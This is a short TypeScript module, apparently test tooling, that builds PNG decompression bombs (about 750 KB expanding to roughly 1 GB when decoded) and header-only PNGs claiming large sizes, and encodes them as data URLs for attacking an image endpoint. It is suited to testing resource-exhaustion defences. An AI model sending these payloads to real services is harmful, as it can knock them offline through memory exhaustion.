/**
 * PNGs for attacking an image endpoint: a real decompression bomb (a large canvas of
 * zeros, which deflates about 1000:1) and a header that only claims a size.
 */
import { crc32, deflateSync } from "node:zlib";

function chunk(type: string, data: Uint8Array): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, "latin1");
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

function ihdr(width: number, height: number): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data[8] = 8; // bit depth
  data[9] = 2; // colour type: RGB
  return chunk("IHDR", data);
}

const SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/**
 * A valid all-black RGB PNG of width x height. 16000x16000 is about 750 KB that decodes to
 * 1 GB of RGBA (the untouched zero pages of the raw buffer cost no memory here).
 */
export function pngBomb(width: number, height: number): Buffer {
  const raw = new Uint8Array(height * (1 + width * 3)); // filter byte 0 + zero pixels per row
  return Buffer.concat([SIGNATURE, ihdr(width, height), chunk("IDAT", deflateSync(raw, { level: 9 })), chunk("IEND", new Uint8Array(0))]);
}

/** Signature and IHDR only: a PNG that claims width x height and holds no pixels. */
export function pngHeaderOnly(width: number, height: number): Buffer {
  return Buffer.concat([SIGNATURE, ihdr(width, height)]);
}

export function dataUrl(png: Uint8Array): string {
  return `data:image/png;base64,${Buffer.from(png).toString("base64")}`;
}
